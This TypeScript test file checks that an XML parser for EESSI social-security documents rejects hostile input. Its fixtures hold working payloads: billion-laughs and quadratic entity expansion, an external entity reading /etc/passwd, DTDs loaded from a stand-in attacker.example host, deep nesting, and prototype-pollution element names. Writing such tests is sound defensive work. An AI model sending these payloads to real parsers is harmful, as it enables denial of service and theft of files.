/** Hostile XML: DTDs and entity declarations are refused before parsing, quickly, and nothing is expanded. */
import { describe, expect, it } from 'vitest';
import { RejectionCodes } from '../../../core/errors.js';
import { parseEessiXml, readEessiXml } from '../../../core/sed/eessi/index.js';
import { NS, PERSON_XML, expectRejection } from './helpers.js';

const ns = NS('4_4', 'A011');

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<sed:A011 xmlns:sed="${ns}">${PERSON_XML.replace('Kowalski', '&lol9;')}</sed:A011>`;

const XXE_FILE = `<?xml version="1.0"?>
<!DOCTYPE A011 [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<sed:A011 xmlns:sed="${ns}">${PERSON_XML.replace('Kowalski', '&xxe;')}</sed:A011>`;

const XXE_HTTP = `<?xml version="1.0"?>
<!DOCTYPE A011 SYSTEM "http://attacker.example/evil.dtd">
<sed:A011 xmlns:sed="${ns}">${PERSON_XML}</sed:A011>`;

const PARAMETER_ENTITY = `<?xml version="1.0"?>
<!DOCTYPE A011 [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]>
<sed:A011 xmlns:sed="${ns}">${PERSON_XML}</sed:A011>`;

const QUADRATIC_BLOWUP = `<?xml version="1.0"?>
<!DOCTYPE A011 [ <!ENTITY a "${'x'.repeat(50_000)}"> ]>
<sed:A011 xmlns:sed="${ns}">${PERSON_XML.replace('Kowalski', '&a;'.repeat(50_000))}</sed:A011>`;

const LOWER_CASE_DOCTYPE = `<!doctype A011><sed:A011 xmlns:sed="${ns}">${PERSON_XML}</sed:A011>`;

const ENTITY_WITHOUT_DOCTYPE = `<sed:A011 xmlns:sed="${ns}"><!ENTITY x "y">${PERSON_XML}</sed:A011>`;

function timed(fn: () => void): number {
  const start = performance.now();
  try {
    fn();
  } catch {
    // the rejection itself is checked separately
  }
  return performance.now() - start;
}

describe('hostile XML', () => {
  it.each([
    ['billion laughs', BILLION_LAUGHS],
    ['external entity (file)', XXE_FILE],
    ['external DTD (http)', XXE_HTTP],
    ['parameter entity', PARAMETER_ENTITY],
    ['quadratic blow-up', QUADRATIC_BLOWUP],
    ['lower-case doctype', LOWER_CASE_DOCTYPE],
    ['entity declaration without a doctype', ENTITY_WITHOUT_DOCTYPE],
  ])('refuses %s with XML_DTD_FORBIDDEN, fast', (_name, xml) => {
    expectRejection(() => readEessiXml(xml), RejectionCodes.XML_DTD_FORBIDDEN);
    expect(timed(() => readEessiXml(xml))).toBeLessThan(50);
  });

  it('refuses 100 000 levels of nesting with TOO_DEEP, fast', () => {
    const xml = `<sed:A011 xmlns:sed="${ns}">${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</sed:A011>`;
    expectRejection(() => parseEessiXml(xml), RejectionCodes.TOO_DEEP);
    expect(timed(() => parseEessiXml(xml))).toBeLessThan(100);
  });

  it.each(['__proto__', 'constructor', 'prototype'])('refuses a <%s> element without polluting prototypes', (name) => {
    const xml = `<sed:A011 xmlns:sed="${ns}">${PERSON_XML}<${name}><polluted>1</polluted></${name}></sed:A011>`;
    expectRejection(() => parseEessiXml(xml), RejectionCodes.XML_MALFORMED);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('builds trees without prototypes', () => {
    const parsed = parseEessiXml(`<sed:A011 xmlns:sed="${ns}">${PERSON_XML}</sed:A011>`);
    expect(Object.getPrototypeOf(parsed.tree)).toBeNull();
    expect(Object.getPrototypeOf(parsed.tree['Person'])).toBeNull();
  });
});
